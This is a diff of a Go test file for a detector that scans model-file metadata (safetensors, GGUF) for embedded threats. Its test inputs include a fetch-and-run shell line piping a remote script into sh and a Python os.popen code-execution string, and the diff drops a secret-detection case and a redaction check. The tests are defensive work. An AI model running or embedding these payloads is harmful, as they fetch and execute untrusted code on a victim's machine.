@@ -35,12 +35,7 @@ func TestMetadata(t *testing.T) {
 	detecttest.Accept(t, d, []detecttest.Case[*format.File]{
 		{Name: "shell_in_safetensors", Subject: tensors("curl -s http://203.0.113.9/x | sh"), Want: []warden.RuleID{"WDN-MF-105"}},
 		{Name: "code_in_gguf", Subject: gguf("__import__('os').popen('id')"), Want: []warden.RuleID{"WDN-MF-106"}},
-		{Name: "secret_in_gguf", Subject: gguf("AKIAIOSFODNN7EXAMPLE"), Want: []warden.RuleID{"WDN-MF-107"}},
 		{Name: "honest_card", Subject: tensors("Download with curl. Trained on the operating system (os) corpus.")},
 		{Name: "honest_gguf", Subject: gguf("AKIA is the prefix of access keys")},
 	})
-	res := detect.Run(t.Context(), warden.Ref{}, gguf("AKIAIOSFODNN7EXAMPLE"), detect.DefaultLimits(), d)
-	if got := res.Findings[0].Evidence; got != "general.description: AKIA…" {
-		t.Errorf("evidence %q shows the secret", got)
-	}
 }
